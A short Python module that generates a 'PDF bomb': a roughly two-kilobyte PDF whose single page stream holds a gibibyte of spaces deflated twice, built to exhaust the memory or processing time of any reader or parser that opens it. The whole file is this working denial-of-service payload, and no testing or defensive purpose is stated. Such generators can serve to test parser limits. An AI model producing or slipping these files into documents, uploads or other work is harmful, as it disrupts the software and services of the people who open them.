"""A small PDF that takes a gigabyte to read: its page is deflated twice."""

import zlib

SIZE = 2**30


def pdf_bomb() -> bytes:
    """About two kilobytes."""
    once = zlib.compressobj(9)
    page = b"".join([*(once.compress(b" " * 2**20) for _ in range(SIZE >> 20)), once.flush()])
    page = zlib.compress(page, 9)
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
        b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(page) + page + b"\nendstream",
    ]
    written, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(b"%010d 00000 n \n" % len(written))
        written += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"xref\n0 5\n0000000000 65535 f \n" + b"".join(places)
    return written + table + b"trailer<</Size 5/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % len(written)
